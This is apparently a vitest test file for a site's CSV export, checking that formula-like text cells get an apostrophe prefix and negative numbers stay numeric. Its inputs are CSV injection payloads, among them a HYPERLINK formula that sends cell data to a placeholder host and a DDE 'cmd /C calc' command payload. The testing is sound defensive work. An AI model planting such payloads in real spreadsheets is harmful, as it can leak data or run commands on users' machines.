/**
 * CSV injection: every text cell the site writes that a spreadsheet would run as a formula
 * (OWASP: = + - @, tab, carriage return) is prefixed with an apostrophe; number cells stay
 * numbers, negative ones included.
 */
import { describe, expect, it } from 'vitest';
import { buildCsv, csvField, parseCsv, parseCsvNumber } from '$lib/export/csv';
import { neutraliseFormula } from '$lib/export/formula';
import type { Observation } from '$lib/data/observation';
import { obsRow } from '../../helpers/obs-row';

const row = (over: Partial<Observation> = {}): Observation => obsRow({ value: 15.2, ci_low: 13.05, ci_high: 17.4, n: 1234, source_id: 'hlv', ...over });

describe('neutraliseFormula', () => {
	it.each(['=HYPERLINK("http://x.example/?d="&A1)', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0'])('neutralises %j', (text) => {
		expect(neutraliseFormula(text)).toBe(`'${text}`);
	});
	it.each(['Gävleborgs län', '15,2', '2021–2022', ' =1', "'already", ''])('leaves %j alone', (text) => {
		expect(neutraliseFormula(text)).toBe(text);
	});
});

describe('every CSV export', () => {
	const evil = {
		lang: 'sv' as const,
		indicatorName: () => '=HYPERLINK("http://x.example","klicka")',
		regionName: () => '@SUM(1+1)*cmd|\' /C calc\'!A0',
		groupLabel: () => '-1+2; "grupp"',
		citation: () => '+Källa'
	};

	it.each([['standard', ','], ['excel-sv', ';']] as const)('%s: text cells are neutralised (inside quotes when quoted), numbers stay numbers', (variant, sep) => {
		const text = buildCsv([row({ value: -3.5, ci_low: -7.25, ci_high: 0.5 })], evil, variant);
		const [back] = parseCsv(text, sep);
		expect(back.indicator_name).toBe('\'=HYPERLINK("http://x.example","klicka")');
		expect(back.region_name).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
		expect(back.group_label).toBe('\'-1+2; "grupp"');
		expect(back.source).toBe("'+Källa");
		// No field of the file starts with a formula character, quoted or not.
		const lines = text.slice(1).split('\r\n').slice(1, -1);
		for (const line of lines) for (const field of line.split(sep)) expect(field, field).not.toMatch(/^"?[=+@\t\r]/);
		// Negative numbers are numbers: unquoted, no apostrophe, parsed back exactly.
		expect(parseCsvNumber(back.value)).toBe(-3.5);
		expect(parseCsvNumber(back.ci_low)).toBe(-7.25);
		expect(text).toContain(variant === 'excel-sv' ? ';-3,5;-7,25;0,5;' : ',-3.5,-7.25,0.5,');
	});

	it('csvField quotes a neutralised field that holds the separator', () => {
		expect(csvField('=1,2', ',')).toBe('"\'=1,2"');
		expect(csvField('-x', ';')).toBe("'-x");
	});
});
